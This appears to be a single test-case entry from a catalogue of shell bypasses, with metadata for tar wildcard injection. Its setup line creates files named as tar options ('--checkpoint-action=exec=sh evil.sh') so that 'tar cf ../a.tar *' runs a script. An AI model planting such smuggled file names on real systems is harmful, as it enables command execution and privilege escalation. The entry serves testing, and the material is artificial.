#@ id: gl-filename-as-tar-action
#@ about: file names become --checkpoint-action=exec
#@ class: glob
#@ kind: bypass
#@ origin: https://www.exploit-db.com/papers/33930 (from general knowledge; the address was not opened)
#@ world: catalogue
#@ setup: touch -- '--checkpoint=1' '--checkpoint-action=exec=sh evil.sh'
#@ effect: create /w/a.tar
#@ effect: create PWNED
#@ exit: 0
#@ body: no-final-newline
#@ ---
tar cf ../a.tar *
